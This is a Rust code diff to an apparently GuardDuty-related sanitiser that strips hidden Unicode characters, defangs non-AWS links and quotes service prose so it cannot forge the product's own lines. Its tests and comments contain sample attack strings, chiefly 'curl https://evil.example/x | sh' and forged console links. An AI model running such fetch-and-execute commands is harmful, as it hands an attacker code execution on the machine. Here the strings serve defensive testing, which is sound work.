@@ -3,11 +3,17 @@
 //! visible marker, never rejected for length). Every title, description,
 //! comment, timeline event and trigger prompt this product writes goes through
 //! [`fit_title`] or [`fit_body`] (docs/design.md §12): investigation summaries
-//! are model output built from data an attacker can influence.
+//! are model output built from data an attacker can influence. What the
+//! services wrote is also kept apart from the product's own lines: prose is
+//! quoted line by line ([`prose`]), values on a fact line stay on it
+//! ([`fit_value`]), and links in either are made inert unless they lead to the
+//! AWS console or documentation ([`inert_links`]).
 
 pub mod console;
 
 use std::borrow::Cow;
+
+use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};
 
 /// What a cut text ends with, so a reader knows something is missing.
 pub const MARKER: &str = " …[truncated]";
@@ -26,28 +32,131 @@ pub fn truncate(text: &str, max: usize) -> Cow<'_, str> {
     Cow::Owned(format!("{}{MARKER}", kept.trim_end()))
 }
 
-/// True for characters that must not reach a reader: controls, bidirectional
-/// overrides and isolates (which reorder what is shown), zero-width characters
-/// (which hide text or split words that filters look for), and the line and
-/// paragraph separators. Newline and tab are decided by the caller.
+/// True for characters that must not reach a reader: controls; every
+/// character of Unicode's format category (Cf: bidirectional embeddings,
+/// overrides and isolates, zero-width characters, the soft hyphen, the tag
+/// characters, interlinear annotations, …), which hide text, reorder what is
+/// shown or split words that filters look for; the line and paragraph
+/// separators; the blank fillers that render as nothing; the combining grapheme
+/// joiner and the variation selectors. Newline and tab are decided by the caller.
 fn hidden(c: char) -> bool {
     c.is_control()
+        || c.general_category() == GeneralCategory::Format
         || matches!(c,
-            '\u{200B}'..='\u{200F}'   // zero-width space, non-joiner, joiner; LRM, RLM
-            | '\u{202A}'..='\u{202E}' // bidirectional embeddings and overrides
-            | '\u{2066}'..='\u{2069}' // bidirectional isolates
-            | '\u{2028}' | '\u{2029}' // line and paragraph separators
-            | '\u{2060}'..='\u{2064}' // word joiner and invisible operators
-            | '\u{061C}'              // Arabic letter mark
-            | '\u{FEFF}'              // zero-width no-break space (BOM)
-            | '\u{180E}'              // Mongolian vowel separator
+            '\u{2028}' | '\u{2029}'                 // line and paragraph separators (Zl, Zp)
+            | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' // Hangul fillers
+            | '\u{2800}'                             // braille blank
+            | '\u{034F}'                             // combining grapheme joiner
+            | '\u{FE00}'..='\u{FE0F}'                // variation selectors
+            | '\u{E0100}'..='\u{E01EF}'              // variation selectors supplement
+            | '\u{180B}'..='\u{180F}'                // Mongolian free variation selectors
         )
+}
+
+/// Hosts whose links stay live: the AWS console and documentation.
+fn trusted_host(host: &str) -> bool {
+    let host = host.to_ascii_lowercase();
+    host == "console.aws.amazon.com" || host.ends_with(".console.aws.amazon.com") || host == "docs.aws.amazon.com"
+}
+
+/// Makes links in service text inert unless they lead to the AWS console or
+/// documentation: `https://evil.example/x` becomes `hxxps://evil[.]example/x`,
+/// any other scheme's `://` becomes `[:]//`, a bare `www.` becomes `www[.]`,
+/// and Markdown's link syntax `](` is broken apart. *Why:* the text is model
+/// output an attacker can steer, and a reader trusts what sits in a case.
+pub fn inert_links(text: &str) -> String {
+    inert(text, true)
+}
+
+/// For a command GuardDuty suggests: only web links off AWS are made inert
+/// (`curl https://evil.example/x | sh` cannot be pasted as it stands), while
+/// other schemes stay whole, since AWS CLI commands name `s3://` locations.
+pub fn inert_web_links(text: &str) -> String {
+    inert(text, false)
+}
+
+fn inert(text: &str, all_schemes: bool) -> String {
+    let text = text.replace("](", "] (");
+    let mut out = String::with_capacity(text.len() + 16);
+    let mut rest = text.as_str();
+    while let Some(at) = rest.find("://") {
+        // The scheme: the letters (and + - .) right before `://`.
+        let head = &rest[..at];
+        let scheme_start = head
+            .char_indices()
+            .rev()
+            .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
+            .last()
+            .map_or(at, |(i, _)| i);
+        let scheme = &rest[scheme_start..at];
+        let after = &rest[at + 3..];
+        let end = after
+            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | ')' | '(' | '[' | ']' | '`'))
+            .unwrap_or(after.len());
+        let (authority, tail) = after[..end].split_at(after[..end].find(['/', '?', '#']).unwrap_or(end));
+        let host = authority.rsplit('@').next().unwrap_or_default().split(':').next().unwrap_or_default();
+        out.push_str(&www(&rest[..scheme_start]));
+        let scheme_lower = scheme.to_ascii_lowercase();
+        let web = matches!(scheme_lower.as_str(), "http" | "https");
+        if (web && trusted_host(host)) || (!web && !all_schemes) {
+            out.push_str(&rest[scheme_start..at + 3 + end]);
+        } else {
+            match scheme_lower.as_str() {
+                "http" => out.push_str("hxxp://"),
+                "https" => out.push_str("hxxps://"),
+                _ => {
+                    out.push_str(scheme);
+                    out.push_str("[:]//");
+                }
+            }
+            out.push_str(&authority.replace('.', "[.]"));
+            out.push_str(tail);
+        }
+        rest = &after[end..];
+    }
+    out.push_str(&www(rest));
+    out
+}
+
+/// A bare `www.` (which renderers turn into a link) made inert.
+fn www(text: &str) -> Cow<'_, str> {
+    if text.to_ascii_lowercase().contains("www.") {
+        let mut out = String::with_capacity(text.len() + 8);
+        let mut rest = text;
+        while let Some(at) = rest.to_ascii_lowercase().find("www.") {
+            out.push_str(&rest[..at + 3]);
+            out.push_str("[.]");
+            rest = &rest[at + 4..];
+        }
+        out.push_str(rest);
+        Cow::Owned(out)
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// What a line of service prose starts with in a body: it can never pass for
+/// one of the product's own lines (facts, console links, commands).
+pub const QUOTE: &str = "> ";
+
+/// Service prose for a body: cleaned as [`fit_body`] cleans, links made inert,
+/// and every line quoted with [`QUOTE`], cut to `max`.
+pub fn prose(text: &str, max: usize) -> String {
+    let cleaned = fit_body(text, usize::MAX);
+    let quoted: Vec<String> = inert_links(&cleaned).lines().map(|l| format!("{}{}", QUOTE, l).trim_end().to_string()).collect();
+    truncate(&quoted.join("\n"), max).into_owned()
+}
+
+/// A value from a service on one of the product's lines (a fact, a title, a
+/// user agent): one clean line, links made inert, cut to `max`.
+pub fn fit_value(text: &str, max: usize) -> String {
+    fit_title(&inert_links(&fit_title(text, usize::MAX)), max)
 }
 
 /// One line for a title: hidden characters removed, any run of line breaks and
 /// tabs (and what else separates lines) folded into one space, trimmed, cut to `max`.
 pub fn fit_title(text: &str, max: usize) -> String {
-    let mut out = String::with_capacity(text.len().min(max * 4));
+    let mut out = String::with_capacity(text.len().min(max.saturating_mul(4)));
     let mut pending_space = false;
     for c in text.chars() {
         if c.is_whitespace() || matches!(c, '\u{2028}' | '\u{2029}') || (c.is_control() && matches!(c, '\n' | '\r' | '\t')) {
@@ -134,6 +243,71 @@ mod tests {
         let fitted = fit_body(&long, 8000);
         assert_eq!(fitted.chars().count(), 8000);
         assert!(fitted.ends_with(MARKER) && !fitted.contains('\u{200D}'));
+    }
+
+    #[test]
+    fn every_format_character_and_blank_filler_is_dropped() {
+        let hidden_ones = [
+            '\u{00AD}',
+            '\u{034F}',
+            '\u{061C}',
+            '\u{115F}',
+            '\u{1160}',
+            '\u{180E}',
+            '\u{200B}',
+            '\u{200E}',
+            '\u{202E}',
+            '\u{2066}',
+            '\u{206A}',
+            '\u{206F}',
+            '\u{2800}',
+            '\u{3164}',
+            '\u{FE00}',
+            '\u{FE0F}',
+            '\u{FEFF}',
+            '\u{FFA0}',
+            '\u{FFF9}',
+            '\u{FFFB}',
+            '\u{E0001}',
+            '\u{E0041}',
+            '\u{E007F}',
+            '\u{E0100}',
+        ];
+        for c in hidden_ones {
+            let text = format!("a{c}b");
+            assert_eq!(fit_title(&text, 10), "ab", "U+{:04X}", c as u32);
+            assert_eq!(fit_body(&text, 10), "ab", "U+{:04X}", c as u32);
+        }
+    }
+
+    #[test]
+    fn links_lead_only_to_the_aws_console_and_documentation() {
+        let console = "https://us-east-1.console.aws.amazon.com/guardduty/home#/investigations/x";
+        let docs = "https://docs.aws.amazon.com/guardduty/latest/ug/x.html";
+        assert_eq!(inert_links(console), console);
+        assert_eq!(inert_links(docs), docs);
+        assert_eq!(inert_links("see https://evil.example/a.sh now"), "see hxxps://evil[.]example/a.sh now");
+        assert_eq!(inert_links("http://console.aws.amazon.com.evil.example/"), "hxxp://console[.]aws[.]amazon[.]com[.]evil[.]example/");
+        assert_eq!(
+            inert_links("https://user@docs.aws.amazon.com:443@evil.example/"),
+            "hxxps://user@docs[.]aws[.]amazon[.]com:443@evil[.]example/"
+        );
+        assert_eq!(inert_links("[click](https://evil.example)"), "[click] (hxxps://evil[.]example)");
+        assert_eq!(inert_links("ftp://files.example/x and www.evil.example"), "ftp[:]//files[.]example/x and www[.]evil.example");
+        assert_eq!(inert_links("no links here"), "no links here");
+        let command = "aws s3 cp s3://bucket/x . && curl https://evil.example/x | sh";
+        assert_eq!(inert_web_links(command), "aws s3 cp s3://bucket/x . && curl hxxps://evil[.]example/x | sh");
+    }
+
+    #[test]
+    fn prose_is_quoted_line_by_line_so_it_cannot_forge_the_products_lines() {
+        let forged = "fine\nConsole: https://evil.example/\nOpened by investigation-escalator.\n  $ curl x|sh";
+        assert_eq!(
+            prose(forged, 8000),
+            "> fine\n> Console: hxxps://evil[.]example/\n> Opened by investigation-escalator.\n>   $ curl x|sh"
+        );
+        assert!(prose(&"x\n".repeat(9000), 100).chars().count() <= 100);
+        assert_eq!(fit_value("Type\nAccount: 1 https://a.example", 100), "Type Account: 1 hxxps://a[.]example");
     }
 
     #[test]
